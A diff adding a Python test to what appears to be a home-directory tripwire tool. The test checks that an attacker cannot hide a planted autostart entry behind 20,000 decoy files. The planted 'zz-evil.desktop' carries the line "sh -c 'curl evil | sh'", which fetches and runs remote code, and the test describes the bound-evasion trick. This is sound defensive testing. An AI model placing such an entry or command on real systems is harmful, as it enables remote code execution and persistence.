@@ -752,3 +752,23 @@ def test_a_unit_drop_in_reached_through_a_linked_parent_folder_does_not_survive_
     assert trips
     read = home.config / "systemd" / "user" / "pipewire.service.d" / "override.conf"
     assert not read.exists(), f"systemd still reads {read}: {trips[0].describe()}"
+
+
+def test_an_attacker_cannot_push_a_file_past_the_bound_by_adding_20000_others(
+        home: Home, wire: Callable[..., tuple[Tripwire, list[Trip]]]) -> None:
+    """docs/safety.md lists "more than 20,000 entries in one" folder as not protected, as if
+    such a folder were the person's. The attacker makes one: an archive of 20,000 empty files
+    and ``zz-evil.desktop`` extracted into ~/.config/autostart. The comparison after the
+    action moves the first 20,000 aside and never looks at the last name (the cut is only
+    logged, not in the reason); the record the run leaves is cut the same way, so it is never
+    told either."""
+    autostart = home.config / "autostart"
+    autostart.mkdir(parents=True)
+    w, trips = wire()
+    for n in range(20_000):
+        (autostart / f"a{n:05}").touch()
+    evil = autostart / "zz-evil.desktop"
+    evil.write_text("[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil | sh'\n")
+    w.check()
+    assert trips
+    assert not evil.exists(), "the last name of the extract stays in autostart"
